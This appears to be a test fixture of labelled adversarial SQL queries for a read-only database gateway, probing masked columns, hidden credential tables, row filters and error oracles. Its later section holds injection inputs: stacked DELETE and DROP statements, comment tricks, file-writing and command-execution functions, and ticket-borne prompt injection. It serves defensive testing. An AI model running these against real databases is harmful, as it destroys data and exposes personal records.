SELECT sum(9223372036854775807) FROM customers

-- error text | safe
SELECT 'x' LIKE 'x' ESCAPE 'xx'

-- error text | safe
SELECT json(phone) FROM customers

-- error text | safe
SELECT printf('%*d', 2000000000, 1)

-- error text | safe
SELECT replace(hex(zeroblob(10)), '0', 'xxxxxxxxxx')

-- error text | safe
SELECT json_extract('{', '$')

-- error text | safe
SELECT 1 << 70, 1 / 0, 5 % 0

-- error text | safe
SELECT substr('x', 9223372036854775807, 9223372036854775807)

-- row filter | european-answers
SELECT id FROM customers WHERE abs(CASE WHEN region = 'US' THEN -9223372036854775808 ELSE 1 END) = 1

-- row filter | european-no-rows
SELECT id FROM customers WHERE CASE WHEN region = 'US' THEN json('x') ELSE 1 END = 2

-- row filter | european-no-rows
SELECT count(*) FROM customers WHERE region = 'APAC'

-- row filter | european-no-rows
SELECT id FROM orders o WHERE NOT EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id)

-- parameters | bad-params
SELECT ?2

-- parameters | bad-params,safe
SELECT ?

-- parameters | bad-params,syntax,not-supported
SELECT @name

-- parameters | bad-params,safe
SELECT $1

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE email IS 'ada.canarymail1@example1.com'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE ('ada.canarymail1@example1.com' IS email) = 1

-- guessing behind the mask | no-rows
WITH x AS MATERIALIZED (SELECT id, email FROM customers) SELECT id FROM x WHERE email IS 'ada.canarymail1@example1.com'

-- masked column through an expression | safe
SELECT id, ssn << 1, ssn >> 0, email IS ssn, email IS NOT email FROM customers

-- row filter | european-no-rows
WITH x AS NOT MATERIALIZED (SELECT id, region FROM customers) SELECT id FROM x WHERE region IS 'US'

-- row filter | european-no-rows
SELECT id FROM customers WHERE region IS NOT 'EU' AND region IS NOT NULL

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers WHERE id IN (SELECT id FROM customers WHERE token IS NOT NULL)

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers c WHERE (SELECT count(*) FROM orders o WHERE o.customer_id = c.id AND c.token > 'C') > 0

-- hidden column in every clause | unknown-name,not-supported
SELECT region, count(*) FROM customers GROUP BY region HAVING max(token) > 'C'

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers ORDER BY CASE WHEN token > 'CANARYtoken-5' THEN 0 ELSE 1 END, id LIMIT 1

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers ORDER BY length(token)

-- hidden column in every clause | unknown-name,not-supported
SELECT sum(credit) OVER (PARTITION BY token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT count(*) OVER w FROM customers WINDOW w AS (ORDER BY token)

-- hidden column in every clause | unknown-name,not-supported
SELECT lag(token) OVER (ORDER BY id) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers UNION SELECT length(token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers INTERSECT SELECT id FROM customers WHERE token LIKE '%1'

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers EXCEPT SELECT id FROM customers WHERE token LIKE '%1'

-- hidden column in every clause | unknown-name,not-supported
SELECT * FROM customers a JOIN customers b USING (token)

-- hidden column in every clause | unknown-name,not-supported
SELECT * FROM customers a JOIN customers b ON a.token = b.token

-- hidden column in every clause | unknown-name,not-supported
SELECT c.id FROM customers c LEFT JOIN orders o ON o.customer_id = c.id AND length(c.token) > 3

-- hidden column in every clause | unknown-name,not-supported
SELECT DISTINCT token FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT count(DISTINCT token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT (token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT ((customers.token)) AS id FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT coalesce(NULL, token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT nullif(token, token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT id BETWEEN 1 AND length(token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers WHERE (id, token) = (1, 'x')

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers WHERE (id, 'x') IN (SELECT id, token FROM customers)

-- hidden column in every clause | unknown-name,not-supported
SELECT x.t FROM (SELECT token AS t FROM customers) AS x

-- hidden column in every clause | unknown-name,not-supported
SELECT x.b FROM (SELECT id, token FROM customers) AS x(a, b)

-- hidden column in every clause | unknown-name,not-supported
WITH c(a, b) AS (SELECT id, token FROM customers) SELECT b FROM c

-- hidden column in every clause | unknown-name,not-supported
WITH customers AS (SELECT * FROM customers) SELECT token FROM customers

-- hidden column in every clause | unknown-name,not-supported
WITH RECURSIVE c AS (SELECT id, token FROM customers WHERE id = 1 UNION ALL SELECT id + 1, token FROM c WHERE id < 3) SELECT * FROM c

-- hidden column in every clause | unknown-name,not-supported
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3) SELECT i, (SELECT token FROM customers WHERE id = i) FROM n

-- hidden column in every clause | unknown-name,not-supported
SELECT "hidden col" FROM (SELECT * FROM "Odd Table") AS o

-- hidden column in every clause | unknown-name,not-supported
SELECT o."hidden col" FROM "Odd Table" AS o ORDER BY o."select"

-- hidden column in every clause | unknown-name,not-supported
SELECT "Odd Table"."hidden col" FROM "Odd Table"

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM products WHERE name = (SELECT "hidden col" FROM "Odd Table" LIMIT 1)

-- hidden column in every clause | unknown-name,not-supported
SELECT count(*) FROM customers WHERE token IS NULL

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products WHERE NOT EXISTS (SELECT * FROM credentials)

-- hidden table in every place | unknown-name,not-supported
SELECT (SELECT count(*) FROM credentials) FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products ORDER BY (SELECT max(login) FROM credentials)

-- hidden table in every place | unknown-name,not-supported
SELECT category, count(*) FROM products GROUP BY category HAVING (SELECT count(*) FROM credentials) > 0

-- hidden table in every place | unknown-name,not-supported
SELECT CASE WHEN (SELECT min(id) FROM credentials) = 1 THEN id END FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products UNION ALL SELECT id FROM credentials

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products EXCEPT SELECT id FROM credentials

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products INTERSECT SELECT id FROM credentials

-- hidden table in every place | unknown-name,not-supported
WITH x AS (SELECT * FROM credentials) SELECT 1

-- hidden table in every place | unknown-name,not-supported
WITH x AS (SELECT 1), y AS (SELECT * FROM credentials) SELECT * FROM x

-- hidden table in every place | unknown-name,not-supported
WITH RECURSIVE x(i) AS (SELECT 1 UNION ALL SELECT i + (SELECT count(*) FROM credentials) FROM x WHERE i < 3) SELECT * FROM x

-- hidden table in every place | unknown-name,not-supported
SELECT p.id FROM products p LEFT JOIN credentials c ON c.id = p.id

-- hidden table in every place | unknown-name,not-supported
SELECT p.id FROM products p CROSS JOIN credentials

-- hidden table in every place | unknown-name,not-supported
SELECT p.id FROM products p, (SELECT login FROM credentials) AS c

-- hidden table in every place | unknown-name,not-supported
SELECT p.id FROM products p, (products q CROSS JOIN credentials c)

-- hidden table in every place | unknown-name,not-supported
SELECT count(*) OVER (ORDER BY (SELECT 1 FROM credentials)) FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products LIMIT (SELECT count(*) FROM credentials)

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products LIMIT 1 OFFSET (SELECT count(*) FROM credentials)

-- hidden table in every place | unknown-name,not-supported
SELECT sum((SELECT count(*) FROM credentials)) FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT id IN (SELECT id FROM credentials) FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT customer_mails.ssn FROM customer_mails

-- hidden table in every place | unknown-name,not-supported
SELECT c.id FROM customers c JOIN customer_mails m ON m.id = c.id WHERE m.email LIKE 'ada.canary%'

-- hidden table in every place | unknown-name,not-supported
SELECT * FROM customers JOIN (SELECT * FROM customer_mails) AS m USING (id)

-- hidden table in every place | unknown-name,not-supported
SELECT credentials.* FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT credentials.login FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT * FROM products AS credentials, credentials AS c

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT x.id FROM (SELECT id FROM customers) AS c

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT c.id FROM customers AS d

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT customers.id FROM customers AS d

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT a.id FROM (SELECT b.id FROM customers AS b) AS x WHERE b.id = 1

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT id FROM orders WHERE customer_id IN (SELECT x.id FROM customers c)

-- name from a scope that is not its own | unknown-name,not-supported,syntax
WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS x) SELECT * FROM a

-- name from a scope that is not its own | unknown-name,not-supported,syntax
WITH a AS (SELECT * FROM customers) SELECT (SELECT count(*) FROM c) FROM a AS c WHERE d.id = 1

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT n FROM (SELECT count(*) AS m FROM customers) AS t

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT o.total FROM customers c, (SELECT total FROM orders o WHERE o.customer_id = c.id) AS o

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT * FROM customers c JOIN orders o ON o.customer_id = p.id JOIN products p ON true

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT id FROM (SELECT name FROM customers) AS x

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT order_id FROM order_items WHERE customer_id = 1

-- masked column through an operator | safe
SELECT name || phone || email || ssn FROM customers

-- masked column through an operator | safe
SELECT name = phone, name < phone, name <> email, name >= ssn FROM customers

-- masked column through an operator | safe
SELECT name IS NULL, name IS NOT NULL, phone IS DISTINCT FROM name FROM customers

-- masked column through an operator | safe
SELECT name LIKE '%' || phone || '%', name NOT LIKE 'A%', email LIKE name ESCAPE '!' FROM customers

-- masked column through an operator | safe
SELECT name IN (phone, email), name BETWEEN phone AND email FROM customers

-- masked column through an operator | safe
SELECT -salary, +salary, salary * 2, salary / 3, salary % 1000, salary - 7000000, salary & 255, salary | 0 FROM employees

-- masked column through an operator | safe
SELECT salary << 1, salary >> 1, ~(salary % 1000) FROM employees

-- masked column through an operator | safe
SELECT CASE name WHEN phone THEN name ELSE phone END FROM customers

-- masked column through an operator | safe
SELECT CASE WHEN name > phone THEN name || phone ELSE email END FROM customers ORDER BY 1

-- masked column through an operator | safe
SELECT (SELECT name), (SELECT phone WHERE name IS NOT NULL) FROM customers

-- masked column through an operator | safe
SELECT (SELECT name || c.phone FROM customers x WHERE x.id = c.id) FROM customers c

-- masked column through an operator | safe
SELECT name COLLATE "C" FROM customers

-- masked column through an operator | safe
SELECT ssn || '', upper(ssn), substr(ssn, 1, 11), replace(ssn, 'a', '') FROM customers

-- masked column through an operator | safe
SELECT birth_date || '', cast(birth_date AS text) FROM customers

-- masked column through an operator | safe
SELECT cast(name AS text), cast(phone AS varchar(80)), cast(salary AS text) FROM customers, employees LIMIT 300

-- masked column through an operator | safe
SELECT cast(salary AS real), cast(salary AS numeric), cast(salary AS bigint) FROM employees

-- masked column through an operator | safe
SELECT length(name), length(phone), length(email), length(ssn) FROM customers

-- masked column through an operator | safe
SELECT round(salary), abs(salary), round(salary / 7, 3) FROM employees

-- masked column through an operator | safe
SELECT trim(name), ltrim(name, 'A'), rtrim(phone, '0123456789') FROM customers

-- masked column through an operator | safe
SELECT replace(name, ' ', ''), replace(phone, '•', ''), replace(email, '@', ' at ') FROM customers

-- masked column through a group or window | safe
SELECT name, count(*) FROM customers GROUP BY name HAVING count(*) > 0

-- masked column through a group or window | safe
SELECT max(name || phone || coalesce(email, '')) FROM customers GROUP BY id

-- masked column through a group or window | safe
SELECT min(birth_date), max(birth_date) FROM customers GROUP BY id

-- masked column through a group or window | safe
SELECT sum(salary), count(DISTINCT salary), min(salary), max(salary) FROM employees GROUP BY id

-- masked column through a group or window | safe
SELECT sum(salary) - sum(salary) FILTER (WHERE id <> 7) FROM employees

-- masked column through a group or window | safe
SELECT count(*) FILTER (WHERE name > 'Ada C') FROM customers GROUP BY id

-- masked column through a group or window | safe
SELECT name, lead(phone) OVER (ORDER BY name), nth_value(email, 2) OVER (PARTITION BY city ORDER BY phone) FROM customers

-- masked column through a group or window | safe
SELECT rank() OVER (ORDER BY salary), dense_rank() OVER (ORDER BY name), ntile(7) OVER (ORDER BY ssn) FROM employees, (SELECT ssn FROM customers WHERE id = 1) AS c

-- masked column through a group or window | safe
SELECT last_value(card_no) OVER (ORDER BY id ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING) FROM payments

-- masked column through a group or window | safe
SELECT percent_rank() OVER (PARTITION BY dept ORDER BY salary), cume_dist() OVER (ORDER BY salary) FROM employees

-- masked column through a group or window | safe
SELECT sum(salary) OVER (ORDER BY salary RANGE BETWEEN 10 PRECEDING AND 10 FOLLOWING) FROM employees

-- masked column through a group or window | safe
SELECT count(*) OVER (PARTITION BY salary), count(*) OVER (PARTITION BY name, phone) FROM employees NATURAL JOIN (SELECT id, phone FROM customers) AS c

-- masked column through a group or window | safe
SELECT x.name FROM (SELECT name, row_number() OVER (ORDER BY name DESC) AS r FROM customers) AS x WHERE r = 1

-- masked column renamed on the way | safe
SELECT token FROM (SELECT name AS token FROM customers) AS x

-- masked column renamed on the way | safe
SELECT password_hash FROM (SELECT ssn AS password_hash, email AS login FROM customers) AS credentials

-- masked column renamed on the way | safe
WITH credentials(login) AS (SELECT email FROM customers) SELECT login FROM credentials

-- masked column renamed on the way | safe
WITH a AS (SELECT name AS b FROM customers), b AS (SELECT b AS c FROM a), c AS (SELECT c AS d FROM b) SELECT d FROM c

-- masked column renamed on the way | safe
SELECT id AS name, name AS id FROM customers ORDER BY id

-- masked column renamed on the way | safe
SELECT a.name AS n, b.name AS n, c.name AS n FROM customers a, employees b, products c WHERE a.id = b.id AND b.id = c.id

-- masked column renamed on the way | safe
SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT name, phone FROM customers) AS a) AS b) AS c

-- masked column renamed on the way | safe
SELECT x.a || x.b FROM (SELECT name, phone FROM customers) AS x(a, b)

-- masked column renamed on the way | safe
SELECT name FROM customers UNION ALL SELECT name FROM employees UNION ALL SELECT plate FROM vehicles

-- masked column renamed on the way | safe
SELECT 'x' AS name UNION SELECT name FROM customers ORDER BY name

-- masked column renamed on the way | safe
SELECT id, note FROM orders UNION SELECT customer_id, body FROM tickets

-- masked column renamed on the way | safe
SELECT * FROM customers c NATURAL JOIN (SELECT id, name AS region FROM customers) AS x

-- masked column renamed on the way | safe
WITH RECURSIVE r(i, t) AS (SELECT 1, name FROM customers WHERE id = 1 UNION ALL SELECT i + 1, t || 'x' FROM r WHERE i < 4) SELECT * FROM r

-- masked column renamed on the way | safe
WITH RECURSIVE r(i, t) AS (SELECT 1, '' UNION ALL SELECT r.i + 1, c.phone FROM r JOIN customers c ON c.id = r.i WHERE r.i < 20) SELECT * FROM r

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name || '' = 'Ada CANARYname1 Lovelace'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE lower(name) LIKE 'ada canary%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE upper(email) = 'ADA.CANARYMAIL1@EXAMPLE1.COM'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE substr(name, 5, 6) = 'CANARY'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE replace(name, 'CANARY', '') <> name

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE length(name) > 20

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE coalesce(name, 'x') = 'Ada CANARYname1 Lovelace'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE nullif(name, 'Ada CANARYname1 Lovelace') IS NULL

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE NOT (name NOT LIKE '%CANARY%')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name > 'Ada C' AND name < 'Ada D'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name = (SELECT 'Ada CANARYname1 Lovelace')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE EXISTS (SELECT 1 FROM (SELECT 'Ada CANARYname1 Lovelace' AS n) AS v WHERE v.n = name)

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name IN (SELECT 'Ada CANARYname' || id || ' Lovelace' FROM products)

-- guessing behind the mask | no-rows
SELECT count(*) FROM (SELECT name AS n FROM customers) AS x WHERE n LIKE '%CANARY%'

-- guessing behind the mask | no-rows
WITH x AS (SELECT phone AS p FROM customers) SELECT count(*) FROM x WHERE p LIKE '+49%'

-- guessing behind the mask | no-rows
SELECT count(*) FROM customers HAVING max(phone) LIKE '+49%'

-- guessing behind the mask | no-rows
SELECT city FROM customers GROUP BY city HAVING max(name) > 'Ada CANARY' AND max(name) < 'Ada D'

-- guessing behind the mask | no-rows
SELECT a.id FROM customers a JOIN employees e ON e.name = a.name OR e.name LIKE '%CANARY%'

-- guessing behind the mask | no-rows
SELECT id FROM payments WHERE card_no IS NOT NULL

-- guessing behind the mask | no-rows
SELECT id FROM payments WHERE length(card_no) > 0 OR card_no >= ''

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary > 7000000

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary - 7000000 = id * 11

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary IN (SELECT 7000000 + id * 11 FROM employees)

-- guessing behind the mask | no-rows
SELECT dept FROM employees GROUP BY dept HAVING sum(salary) <> count(*) * 7000000

-- guessing behind the mask | no-rows
SELECT id FROM tickets WHERE body <> '[hidden]'

-- guessing behind the mask | no-rows
SELECT id FROM orders WHERE note <> '[hidden]' OR note LIKE 'CANARY%'

-- guessing behind the mask | no-rows
SELECT id FROM vehicles WHERE length(plate) > 4

-- guessing behind the mask | no-rows
SELECT x.id FROM (SELECT id, lag(salary) OVER (ORDER BY id) AS s, salary FROM employees) AS x WHERE salary > s

-- guessing behind the mask | no-rows
SELECT id FROM (SELECT id, rank() OVER (ORDER BY salary) AS r FROM employees) AS x WHERE r > 1

-- guessing behind the mask | no-rows
SELECT id FROM (SELECT id, dense_rank() OVER (ORDER BY name) AS r FROM customers) AS x WHERE r > 1

-- guessing behind the mask | no-rows
SELECT id FROM customers EXCEPT SELECT id FROM customers WHERE name NOT LIKE '%CANARY%' OR name IS NULL

-- guessing behind the mask | no-rows
SELECT name FROM customers INTERSECT SELECT 'Ada CANARYname' || id || ' Lovelace' FROM products

-- error about a value behind a mask | european-answers
SELECT id FROM customers WHERE CASE WHEN length(name) > 20 THEN 1 / (id - id) ELSE 1 END = 1

-- error about a value behind a mask | european-answers
SELECT sum(CASE WHEN body <> '[hidden]' THEN 1 / (customer_id - customer_id) ELSE 0 END) FROM tickets

-- error about a value behind a mask | european-answers
SELECT count(*) FROM employees WHERE 10 / (7000001 - salary) >= 0

-- error about a value behind a mask | european-answers
SELECT max(CASE WHEN card_no IS NULL THEN 1 ELSE 1 / (id - id) END) FROM payments

-- error about a value behind a mask | european-answers
SELECT id FROM employees ORDER BY CASE WHEN salary = 7000000 THEN id ELSE 1 / (id - id) END LIMIT 3

-- error about a value behind a mask | european-answers
SELECT count(*) FROM orders WHERE note IS NULL OR 1 / (CASE WHEN note = '[hidden]' THEN 1 ELSE 0 END) = 1

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE 1 / (id - 2) < 9

-- error about a row outside the filter | european-answers
SELECT id FROM customers WHERE 100 / (CASE WHEN city = 'Paris' AND region <> 'EU' THEN 0 ELSE 1 END) > 0

-- error about a row outside the filter | european-answers
SELECT sum(10 / (CASE region WHEN 'EU' THEN 1 ELSE 0 END)) FROM customers

-- error about a row outside the filter | european-answers
SELECT max(1 / (id - 2)) FROM customers

-- error about a row outside the filter | european-answers
SELECT city FROM customers GROUP BY city HAVING min(1 / (id - 3)) IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) OVER (ORDER BY 1 / (id - 3)) FROM customers

-- error about a row outside the filter | european-answers
SELECT id FROM customers ORDER BY 1 / (id - 3), id LIMIT 2

-- error about a row outside the filter | european-answers
SELECT DISTINCT 1 / (id - 3) FROM customers

-- error about a row outside the filter | european-answers
SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id AND 1 / (c.id - 2) IS NOT NULL WHERE o.id < 9

-- error about a row outside the filter | european-answers
SELECT count(*) FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id AND 1 / (c.id - 2) < 9)

-- error about a row outside the filter | european-answers
SELECT (SELECT min(1 / (c.id - 2)) FROM customers c)

-- error about a row outside the filter | european-answers
WITH c AS (SELECT id, 1 / (id - 2) AS x FROM customers) SELECT count(*) FROM c WHERE x >= 0

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE CASE WHEN id = 3 THEN 1 / (id - 3) ELSE 1 END = 1 AND region = 'EU'

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE region = 'EU' AND 1 / (id - 2) IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE 1 / (CASE WHEN credit = 14.25 THEN 0 ELSE 1 END) = 1

-- error about a row outside the filter | european-answers
SELECT count(*) FROM orders WHERE 1 / (customer_id - 2) >= 0

-- error about a row outside the filter | european-answers
SELECT count(*) FROM orders WHERE total / (CASE WHEN customer_id % 3 = 0 THEN 0 ELSE 1 END) >= 0

-- error about a row outside the filter | european-answers
SELECT sum(x.y) FROM (SELECT 1 / (id - 2) AS y FROM customers UNION ALL SELECT 1) AS x

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE region || '' <> 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE coalesce(region, 'nowhere') <> 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE region IS DISTINCT FROM 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE id = 2

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE id % 3 <> 1

-- row outside the filter | european-no-rows
SELECT c.id FROM customers c LEFT JOIN regions r ON r.code = c.region WHERE r.code <> 'EU' OR r.code IS NULL

-- row outside the filter | european-no-rows
SELECT c.id FROM regions r LEFT JOIN customers c ON c.region = r.code WHERE r.code <> 'EU' AND c.id IS NOT NULL

-- row outside the filter | european-no-rows
SELECT region FROM customers GROUP BY region HAVING region <> 'EU' OR region IS NULL

-- row outside the filter | european-no-rows
SELECT x.id FROM (SELECT id, region FROM customers) AS x WHERE x.region = 'APAC'

-- row outside the filter | european-no-rows
WITH x AS (SELECT * FROM customers) SELECT id FROM x WHERE region = 'US'

-- row outside the filter | european-no-rows
WITH customers AS (SELECT id, region FROM customers) SELECT id FROM customers WHERE region = 'US'

-- row outside the filter | european-no-rows
SELECT region FROM customers UNION SELECT 'EU' EXCEPT SELECT 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM orders WHERE customer_id % 3 = 2

-- row outside the filter | european-no-rows
SELECT id FROM orders WHERE customer_id NOT IN (SELECT id FROM customers)

-- row outside the filter | european-no-rows
SELECT o.id FROM orders o, customers c WHERE o.customer_id = c.id AND c.region <> 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM (SELECT id, count(*) OVER (PARTITION BY region) AS n, min(region) OVER () AS low FROM customers) AS x WHERE low < 'EU'

-- row outside the filter | european-no-rows
SELECT count(*) FROM customers HAVING max(region) > 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM customers a WHERE EXISTS (SELECT 1 FROM customers b WHERE b.region <> 'EU' AND b.id <> a.id)

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE (region = 'EU' OR 1 = 1) AND region <> 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE NOT (NOT (region = 'US'))

-- resources | safe
SELECT count(*) FROM (SELECT 1 FROM orders a, orders b, orders c) AS x

-- resources | safe
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT a.i + 1 FROM n AS a WHERE a.i < 1000000000) SELECT count(*) FROM n

-- resources | safe
SELECT id FROM customers LIMIT 9223372036854775807

-- resources | safe
SELECT id FROM customers LIMIT 1 OFFSET 9223372036854775807

-- resources | safe
SELECT id FROM customers LIMIT -1

-- resources | safe
SELECT id FROM customers LIMIT 99999999999999999999999999

-- resources | safe
SELECT 99999999999999999999999999999999999999999999999999999999999999999999999999999999

-- resources | safe
SELECT 1e400, -1e400, 1e-400

-- known elsewhere: COMMIT ends the read-only transaction | many-statements,not-a-select,syntax
COMMIT; DELETE FROM orders; BEGIN

-- known elsewhere: COMMIT behind a comment that hides the first word | many-statements,not-a-select,syntax
/* report */ COMMIT; /* report */ DELETE FROM orders

-- known elsewhere: COMMIT behind a comment that hides the first word | many-statements,not-a-select,syntax
-- report
COMMIT; DELETE FROM orders

-- known elsewhere: a caller asks for a writable transaction | many-statements,not-a-select,not-supported,syntax
START TRANSACTION READ WRITE; SELECT 1

-- known elsewhere: a caller asks for a writable transaction | many-statements,not-a-select,not-supported,syntax
PRAGMA query_only = OFF; SELECT 1

-- known elsewhere: a write that begins like a query | not-a-select,not-supported,syntax,many-statements,unknown-name
WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone

-- known elsewhere: a write that begins like a query | not-a-select,not-supported,syntax,many-statements,unknown-name
SELECT 1 UNION DELETE FROM orders

-- known elsewhere: a write that begins like a query | not-a-select,not-supported,syntax,many-statements,unknown-name
(DELETE FROM orders)

-- known elsewhere: a write that begins like a query | not-a-select,not-supported,syntax,many-statements,unknown-name
SELECT * FROM (UPDATE orders SET total = 0) AS x

-- known elsewhere: a function is checked in the select list and not in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM fsdir('/etc') AS f

-- known elsewhere: a function is checked in the select list and not in FROM | function-refused,not-supported,unknown-name,syntax
SELECT p.name FROM products p WHERE p.name IN (SELECT name FROM pragma_database_list)

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
SELECTED FROM orders; DELETE FROM orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
/* SELECT */ DELETE FROM orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
-- SELECT
DELETE FROM orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
(((SELECT 1))); DROP TABLE orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
   
	DELETE FROM orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
EXPLAIN ANALYZE DELETE FROM orders

-- known elsewhere: two dashes without a blank hide a statement | safe
SELECT 1--1; DELETE FROM orders

-- known elsewhere: two dashes without a blank hide a statement | safe
SELECT id FROM orders WHERE id = 3--1

-- known elsewhere: a statement that commits by itself | not-a-select,not-supported,syntax,many-statements
CREATE TABLE t (a int); SELECT 1

-- known elsewhere: a statement that commits by itself | not-a-select,not-supported,syntax,many-statements
ALTER TABLE orders ADD COLUMN x int

-- known elsewhere: a row limit got round by CTE, subquery or one large cell | safe
WITH big AS (SELECT a.id FROM orders a, customers b LIMIT 100000) SELECT * FROM big

-- known elsewhere: a row limit got round by CTE, subquery or one large cell | safe
SELECT * FROM (SELECT a.id, b.name FROM orders a, customers b LIMIT 100000) AS x

-- known elsewhere: a row limit got round by CTE, subquery or one large cell | safe
SELECT json_group_array(b.name) FROM orders a, customers b

-- known elsewhere: a function that writes inside a read-only transaction | function-refused,not-supported,unknown-name
SELECT writefile('/tmp/out', group_concat(name)) FROM products

-- known elsewhere: a read-only transaction does not stop reach | function-refused,not-supported,unknown-name,not-a-select,syntax
VACUUM INTO 'http://10.0.0.1/x'

-- known elsewhere: a command function inside a SELECT | function-refused,not-supported,unknown-name
SELECT qcmdexc('DSPLIB QSYS')

-- known elsewhere: a command function inside a SELECT | function-refused,not-supported,unknown-name
SELECT name FROM products WHERE sys_exec('id') = 0

-- known elsewhere: a command function inside a SELECT | function-refused,not-supported,unknown-name
SELECT id FROM products ORDER BY system('id')

-- known elsewhere: a command function inside a SELECT | function-refused,not-supported,unknown-name
SELECT xp_cmdshell('dir')

-- known elsewhere: trailing dashes swallow what the server adds | safe
SELECT id FROM customers WHERE id = 1 --

-- known elsewhere: trailing dashes swallow what the server adds | safe
SELECT id FROM customers LIMIT 100000 --

-- known elsewhere: trailing dashes swallow what the server adds | safe
SELECT id FROM customers WHERE region = 'EU') --

-- known elsewhere: text in a ticket tells the agent to fetch secrets | safe
SELECT body FROM tickets ORDER BY opened_at DESC LIMIT 5

-- known elsewhere: text in a ticket tells the agent to fetch secrets | safe
SELECT t.body, c.name, c.email, c.ssn FROM tickets t JOIN customers c ON c.id = t.customer_id

-- known elsewhere: a masked column asked in WHERE | no-rows
SELECT id FROM customers WHERE name LIKE 'Ada CANARYname7%'

-- known elsewhere: a masked column asked in WHERE | no-rows
SELECT id FROM employees WHERE salary BETWEEN 7000005 AND 7000015

-- known elsewhere: a masked column asked in WHERE | no-rows
SELECT id FROM employees WHERE salary >= 7000001 AND salary < 7000440

-- known elsewhere: a masked value in the text of an error | safe
SELECT json(name), json_extract(phone, '$'), json_set(email, 'x', 1) FROM customers

